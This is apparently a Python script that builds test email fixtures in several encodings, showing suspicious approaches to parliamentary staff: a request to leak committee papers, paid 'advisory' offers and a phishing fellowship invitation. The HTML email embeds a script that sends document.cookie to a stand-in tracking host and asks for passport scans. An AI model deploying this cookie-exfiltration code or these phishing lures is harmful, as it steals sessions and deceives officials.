import struct
import zlib

from common import b64, esc, ew, qp, write


def mbox():
    eml = (
        "From sender@example.com Mon Jan  1 00:00:00 2024\n"
        "Return-Path: <sender@example.com>\n"
        "Delivered-To: jane.smith@parliament.uk\n"
        "Received: from smtp.example.com (smtp.example.com [192.0.2.25])\n"
        "\tby mx1.parliament.uk with ESMTPS id 4T0xQm1Zp9z9sWk\n"
        "\tfor <jane.smith@parliament.uk>; Mon,  1 Jan 2024 00:00:02 +0000 (GMT)\n"
        "From: Alex Turner <sender@example.com>\n"
        "To: Jane Smith <jane.smith@parliament.uk>\n"
        "Subject: Quick favour - committee papers\n"
        "Date: Mon, 01 Jan 2024 00:00:00 +0000\n"
        "Message-ID: <9b1f0c2a-54e7-4a3b-8f1d-1e2f3a4b5c6d@example.com>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=us-ascii\n"
        "Content-Transfer-Encoding: 7bit\n"
        "\n"
        "Hi Jane,\n"
        "\n"
        "Hope you had a good break. Quick favour: could you forward me the papers\n"
        "circulated to members ahead of Thursday's private session? I only need the\n"
        "annex on supply chains.\n"
        "\n"
        "Happy to return the favour - and please keep this between us for now.\n"
        "\n"
        "Alex\n"
        "\n"
    )
    write("mbox-from-line.eml", eml)


def gb2312():
    subj = "诚邀您担任我公司政策顾问"
    name = "李明"
    body = (
        "尊敬的史密斯女士：\n\n"
        "您好！我是北京华信战略咨询有限公司的李明。我们诚邀您担任我公司的政策顾问，为我们的客户提供关于英国议会动态的分析。\n\n"
        "每篇报告约两至三页，报酬为五百英镑。所有内容均基于公开信息，不涉及任何机密。\n\n"
        "为方便联系，请添加我的微信：liming_hx2025。\n\n"
        "此致\n敬礼\n\n李明\n北京华信战略咨询有限公司\n"
    )
    html_body = "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=gb2312\"></head><body>" + "".join(
        "<div>%s</div>" % (esc(l) if l else "<br>") for l in body.split("\n")) + "</body></html>\n"
    body.encode("gb2312"), html_body.encode("gb2312")  # assert encodable
    bnd = "----=_NextPart_678A1B2C_0D3E4F50_1A2B3C4D"
    eml = (
        "Received: from qq-mx.163.com (unknown [220.181.12.13])\n"
        "\tby mx1.parliament.uk with ESMTP id 4YbZ9k0Lm7z2Qr\n"
        "\tfor <jane.smith@parliament.uk>; Tue, 14 Jan 2025 03:12:40 +0000 (GMT)\n"
        "From: %s <li.ming.consult@163.com>\n"
        "To: \"jane.smith\" <jane.smith@parliament.uk>\n"
        "Subject: %s\n"
        "Date: Tue, 14 Jan 2025 11:12:31 +0800\n"
        "Message-ID: <202501141112310817451@163.com>\n"
        "X-Mailer: Foxmail 7.2.25.228[cn]\n"
        "Mime-Version: 1.0\n"
        "Content-Type: multipart/alternative;\n\tboundary=\"%s\"\n"
        "\n"
        "This is a multi-part message in MIME format.\n"
        "\n"
        "--%s\n"
        "Content-Type: text/plain;\n\tcharset=\"gb2312\"\n"
        "Content-Transfer-Encoding: base64\n"
        "\n%s\n"
        "--%s\n"
        "Content-Type: text/html;\n\tcharset=\"gb2312\"\n"
        "Content-Transfer-Encoding: base64\n"
        "\n%s\n"
        "--%s--\n"
        "\n"
    ) % (ew(name, "gb2312", "B"), ew(subj, "gb2312", "B"), bnd, bnd, b64(body, "gb2312"), bnd, b64(html_body, "gb2312"), bnd)
    write("legacy-charset.eml", eml)


def win1252():
    subj = "Your \u201cinformal\u201d advisory role \u2013 next steps"
    body = (
        "Dear Ms Smith,\n\n"
        "Thank you for your time at the reception on Tuesday. As discussed, we would like to offer you an \u201cinformal\u201d advisory role with Hanse Policy Consult \u2013 nothing that would conflict with your parliamentary duties.\n\n"
        "We propose a quarterly fee of \u20ac3,000, paid to an account of your choice, in return for occasional \u201ctemperature checks\u201d on the Committee\u2019s thinking.\n\n"
        "Mit freundlichen Gr\u00fc\u00dfen\n"
        "J\u00fcrgen Wei\u00df\n"
        "Hanse Policy Consult GmbH \u2013 Hamburg\n"
    )
    eml = (
        "From: %s <j.weiss@hanse-policy-consult.de>\n"
        "To: <jane.smith@parliament.uk>\n"
        "Subject: %s\n"
        "Date: Thu, 16 Jan 2025 17:40:02 +0100\n"
        "Message-ID: <005a01db6836$2c4e1f90$84ea5eb0$@hanse-policy-consult.de>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain;\n\tcharset=\"windows-1252\"\n"
        "Content-Transfer-Encoding: quoted-printable\n"
        "X-Mailer: Microsoft Outlook 16.0\n"
        "Content-Language: de\n"
        "\n%s"
    ) % (ew("J\u00fcrgen Wei\u00df", "iso-8859-1", "Q"), ew(subj, "windows-1252", "Q"), qp(body, "windows-1252"))
    write("legacy-charset-win1252.eml", eml, crlf=True)


def tiny_png():
    def chunk(t, d):
        c = struct.pack(">I", len(d)) + t + d
        return c + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b"\x00\x0a\x66\xc2"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def tiny_pdf():
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n"
            b"4 0 obj<</Length 58>>stream\nBT /F1 18 Tf 72 720 Td (Fellowship terms and conditions) Tj ET\nendstream endobj\n"
            b"5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def nested():
    html_body = """<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>Global Leaders Fellowship 2025</title>
<style type="text/css">
  body { font-family: Georgia, 'Times New Roman', serif; color: #222222; background: #f7f5f0; }
  .card { max-width: 600px; margin: 0 auto; background: #ffffff; padding: 32px; }
  .hidden-note { display: none; }
</style>
<script type="text/javascript">
  var t = document.cookie;
  new Image().src = "https://track.example-analytics.net/c?d=" + encodeURIComponent(t);
</script>
</head>
<body>
<div class="card">
<img src="cid:logo-9f3a2b@glf" alt="Global Leaders Fellowship" width="180" height="48">
<h1>Congratulations, Priya!</h1>
<p>You have been selected for a <strong>fully funded fellowship</strong> with the Global Leaders Fellowship 2025 cohort, including a two-week residential programme in Singapore and Geneva.</p>
<p>To confirm your place, please nominate two colleagues from your office who would also benefit from the programme, and upload a passport scan using the secure form below by <b>24 January</b>.</p>
<p><a href="https://global-leaders-fellowship.org/confirm?u=pp-4471&amp;src=email" style="background:#0b5; color:#fff; padding:10px 18px;">Confirm my place</a></p>
<div class="hidden-note" style="display:none">internal ref: sc-priority-b</div>
<p style="font-size:11px;color:#888">Global Leaders Fellowship &middot; 1 Raffles Place &middot; Singapore</p>
</div>
<img src="https://track.example-analytics.net/open.gif?u=pp-4471" width="1" height="1" alt="" style="display:block">
</body>
</html>
"""
    eml = (
        "From: Global Leaders Fellowship <invitations@global-leaders-fellowship.org>\n"
        "To: priya.patel@parliament.uk\n"
        "Subject: You have been selected: Global Leaders Fellowship 2025\n"
        "Date: Mon, 13 Jan 2025 06:30:00 +0000\n"
        "Message-ID: <glf-2025-0113-4471@global-leaders-fellowship.org>\n"
        "MIME-Version: 1.0\n"
        "X-Mailer: Sendy 6.1\n"
        "Content-Type: multipart/mixed; boundary=\"mixed-7Q2w9E4r\"\n"
        "\n"
        "This is a multi-part message in MIME format.\n"
        "\n"
        "--mixed-7Q2w9E4r\n"
        "Content-Type: multipart/alternative; boundary=\"alt-5T8y1U3i\"\n"
        "\n"
        "--alt-5T8y1U3i\n"
        "Content-Type: multipart/related; boundary=\"rel-6O0p2A4s\"; type=\"text/html\"\n"
        "\n"
        "--rel-6O0p2A4s\n"
        "Content-Type: text/html; charset=utf-8\n"
        "Content-Transfer-Encoding: quoted-printable\n"
        "\n%s\n"
        "--rel-6O0p2A4s\n"
        "Content-Type: image/png; name=\"logo.png\"\n"
        "Content-Transfer-Encoding: base64\n"
        "Content-ID: <logo-9f3a2b@glf>\n"
        "Content-Disposition: inline; filename=\"logo.png\"\n"
        "\n%s\n"
        "--rel-6O0p2A4s--\n"
        "\n"
        "--alt-5T8y1U3i--\n"
        "\n"
        "--mixed-7Q2w9E4r\n"
        "Content-Type: application/pdf; name=\"Fellowship_Terms_2025.pdf\"\n"
        "Content-Disposition: attachment; filename=\"Fellowship_Terms_2025.pdf\"\n"
        "Content-Transfer-Encoding: base64\n"
        "\n%s\n"
        "--mixed-7Q2w9E4r--\n"
    ) % (qp(html_body), b64(tiny_png()), b64(tiny_pdf()))
    write("nested-multipart.eml", eml)


mbox()
gb2312()
win1252()
nested()
